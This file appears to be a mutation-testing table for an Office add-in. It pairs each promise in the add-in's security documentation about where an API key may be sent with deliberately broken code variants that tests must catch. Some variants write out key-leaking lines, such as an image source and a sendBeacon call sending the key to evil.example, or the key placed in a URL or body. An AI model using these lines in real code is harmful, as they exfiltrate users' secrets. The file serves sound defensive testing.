import type { HeldPromise } from "./promise";

const baseUrl = "src/engine/transport/base-url.ts";
const baseUrlTest = "test/engine/transport/base-url.test.ts";
const exchange = "src/engine/transport/exchange.ts";
const exchangeTest = "test/engine/transport/exchange.test.ts";
const connectForm = "src/taskpane/connect/ConnectForm.tsx";
const refused = "the address %s is refused with a sentence";

/** Promises of the sections "It goes to one address" and "Nobody else is asked" of docs/security.md. */
export const addressPromises: readonly HeldPromise[] = [
  {
    says: "It is sent in the header `X-API-Key` to the address it was entered for, never in an address or a body.",
    mutants: [
      {
        file: exchange,
        text: "dependencies.fetch(baseUrl + exchange.path, {",
        becomes: "dependencies.fetch(`${baseUrl}${exchange.path}?key=${key}`, {",
        test: exchangeTest,
        title: "carries the key in its header, to the address it was entered for, and refuses redirects",
      },
      {
        file: exchange,
        text: 'headers["Content-Type"] = "application/json";',
        becomes: 'headers["Content-Type"] = `application/json; key=${key}`;',
        test: exchangeTest,
        title: "sends its body as JSON",
      },
      {
        file: exchange,
        text: "JSON.stringify(exchange.body),",
        becomes: "JSON.stringify({ ...exchange.body, key }),",
        test: exchangeTest,
        title: "sends its body as JSON",
      },
      {
        file: exchange,
        text: "let sends = 0;",
        becomes: 'let sends = 0;\n  document.createElement("img").src = `https://evil.example/${key}`;',
        rule: "no-restricted-properties",
      },
      {
        file: exchange,
        text: "let sends = 0;",
        becomes: "let sends = 0;\n  navigator.sendBeacon(`https://evil.example/${key}`);",
        rule: "no-restricted-properties",
      },
    ],
  },
  {
    says: "A redirect does not carry it on.",
    mutants: [
      {
        file: exchange,
        text: 'redirect: "error"',
        becomes: 'redirect: "follow"',
        test: "test/engine/transport/redirect.test.ts",
        title: "is not followed, whatever its status",
      },
    ],
  },
  {
    says: "It is sent over https only, but for services of the same machine.",
    mutants: [
      {
        file: baseUrl,
        text: "!loopbackHosts.has(url.hostname)",
        becomes: '!url.hostname.endsWith("localhost") && !loopbackHosts.has(url.hostname)',
        test: baseUrlTest,
        title: refused,
      },
      {
        file: baseUrl,
        text: 'url.protocol === "http:" && !loopbackHosts',
        becomes: 'url.protocol === "http:" && url.port === "" && !loopbackHosts',
        test: baseUrlTest,
        title: refused,
      },
      {
        file: baseUrl,
        text: "!loopbackHosts.has(url.hostname)",
        becomes: '!loopbackHosts.has(url.hostname) && !url.hostname.startsWith("127.")',
        test: baseUrlTest,
        title: refused,
      },
    ],
  },
  {
    says: "An address is shown as what the browser makes of it, and one with a user name or a password is refused. One that the browser reads otherwise than it was typed is confirmed before the key goes there.",
    mutants: [
      {
        file: baseUrl,
        text: "const baseUrl = url.origin + withoutEnding(url.pathname);",
        becomes: "const baseUrl = withoutEnding(text.trim());",
        test: baseUrlTest,
        title: "%j is shown as what it really is: %s",
      },
      {
        file: baseUrl,
        text: "url.username || url.password || url.search",
        becomes: "url.username || url.search",
        test: baseUrlTest,
        title: refused,
      },
      {
        file: baseUrl,
        text: "url.username || url.password || url.search",
        becomes: "(url.username && url.password) || url.search",
        test: baseUrlTest,
        title: refused,
      },
      {
        file: connectForm,
        text: 'if ("baseUrl" in parsed && isOther)',
        becomes: 'if ("baseUrl" in parsed && isOther && entry.key === "")',
        test: "test/e2e/pane/pane.test.ts",
        title: "shows an address as the browser reads it, and sends no key there before it is confirmed",
      },
    ],
  },
  {
    says: "A key that was sent to one address is asked for again for another.",
    mutants: [
      {
        file: connectForm,
        text: 'key: wasSent ? "" : entry.key',
        becomes: "key: entry.key",
        test: "test/e2e/sharing/planted-key.test.ts",
        title: "is asked for again for another address, once it was sent",
      },
    ],
  },
  {
    says: "A kept address that no key may go to counts as none.",
    mutants: [
      {
        file: "src/app.ts",
        text: "const url = kept && usableUrl(kept.baseUrl);",
        becomes: "const url = kept && { baseUrl: kept.baseUrl };",
        test: "test/app/app.test.ts",
        title: "counts as none if its address is one that no key may go to",
      },
      {
        file: "src/app.ts",
        text: "openAccess({ ...url, key: kept.key })",
        becomes: "openAccess(kept)",
        test: "test/app/app.test.ts",
        title: "a kept address with %j in front is asked where it leads, not at the add-in's own host",
      },
    ],
  },
  {
    says: "The add-in asks its own address, the service and Microsoft's office.js, nobody else.",
    mutants: [
      {
        file: "src/main.ts",
        text: "const formulasComeMs = 100;",
        becomes: 'const formulasComeMs = 100;\nvoid fetch("https://telemetry.example.com/started");',
        test: "test/security.test.ts",
        title: "name no third party's address, but for names of markup and where React explains its errors",
      },
      {
        file: "src/taskpane/taskpane.html",
        text: '<meta charset="utf-8" />',
        becomes:
          '<meta charset="utf-8" />\n    <link rel="stylesheet" href="https://fonts.example.com/a.css" />',
        test: "test/security.test.ts",
        title: "load scripts and styles from their own address alone, but for office.js",
      },
      {
        file: "deployment/office-script.ts",
        text: "https://officeapis.public.onecdn.static.microsoft/1/office.js",
        becomes: "https://cdn.example.com/1/office.js",
        test: "test/manifest.test.ts",
        title: "load office.js from Microsoft's CDN, before the add-in's own script",
      },
    ],
  },
];
